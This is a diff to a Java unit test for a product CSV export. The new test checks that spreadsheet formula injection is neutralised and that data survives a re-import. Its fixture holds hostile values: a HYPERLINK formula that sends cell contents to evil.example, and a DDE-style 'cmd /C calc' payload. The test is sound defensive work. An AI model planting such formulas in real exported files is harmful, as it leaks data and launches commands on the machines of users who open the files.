@@ -26,6 +26,7 @@ import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.UUID;
 import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
@@ -106,6 +107,51 @@ class ProductExportTest {
         assertThat(again.form().variants()).hasSize(2);
     }
 
+    @Test
+    void noCellIsAFormulaAndEachComesBack() throws IOException {
+        var handle = ProductDrafts.unique("x");
+        var made = productAdmin.create(
+                handle,
+                new ProductForm(
+                        "=HYPERLINK(\"https://evil.example?\"&A1)",
+                        "@SUM(1+1)*cmd|' /C calc'!A0",
+                        "+91 Brand",
+                        null,
+                        List.of("-1+1", "two"),
+                        ProductStatus.ACTIVE,
+                        null,
+                        List.of("@Size"),
+                        List.of(
+                                formulaic("=" + handle, "-S", "'+1"),
+                                formulaic("'" + handle, "'=S", "=1"),
+                                formulaic("'='" + handle, "''S", "'1")),
+                        List.of(new ProductImage("https://media.example/" + handle + ".jpg", "=1+1")),
+                        Map.of()));
+
+        var file = new ByteArrayOutputStream();
+        exports.write(file);
+        try (var reader = CsvReader.builder().ofCsvRecord(file.toString(StandardCharsets.UTF_8))) {
+            assertThat(reader.stream().flatMap(record -> record.getFields().stream()))
+                    .noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r\\n].*"));
+        }
+        var report = importer.run(exported(handle, handle));
+
+        assertThat(report.rejected()).isEmpty();
+        assertThat(productAdmin.view(made.id())).isEqualTo(made);
+    }
+
+    private static ProductForm.Variant formulaic(String sku, String size, String barcode) {
+        return new ProductForm.Variant(
+                new Sku(sku),
+                List.of(size),
+                Money.inr(100),
+                Money.inr(100),
+                0,
+                null,
+                barcode,
+                "https://media.example/v.jpg");
+    }
+
     private ProductAdminView awkward(String handle) {
         return productAdmin.create(
                 handle,
@@ -140,7 +186,8 @@ class ProductExportTest {
                         List.of(
                                 new ProductImage("https://media.example/" + handle + "/b.jpg", "Back, side"),
                                 new ProductImage("https://media.example/" + handle + "/a.jpg", null),
-                                new ProductImage("https://media.example/" + handle + "/c.jpg", "C"))));
+                                new ProductImage("https://media.example/" + handle + "/c.jpg", "C")),
+                        Map.of()));
     }
 
     private static List<VariantDraft> one(String sku) {
